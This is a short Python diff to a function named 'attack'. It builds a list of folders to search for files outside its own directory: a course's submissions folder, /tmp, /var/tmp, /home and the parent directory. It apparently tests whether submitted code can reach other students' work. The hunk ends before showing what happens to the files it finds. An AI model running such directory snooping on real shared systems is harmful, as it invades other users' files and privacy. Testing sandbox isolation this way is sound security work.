@@ -11,7 +11,9 @@ import os
 
 def attack(targets: dict) -> str:
     mine = os.path.realpath(os.getcwd())
-    folders = [os.path.dirname(mine), os.path.join(targets["course_root"], "submissions"), "/tmp", "/var/tmp", "/home"]
+    folders = [os.path.join(targets["course_root"], "submissions"), "/tmp", "/var/tmp", "/home"]
+    if os.path.dirname(mine) != "/":
+        folders.append(os.path.dirname(mine))
     for folder in folders:
         for place, below, names in os.walk(folder):
             if os.path.realpath(place).startswith(mine):
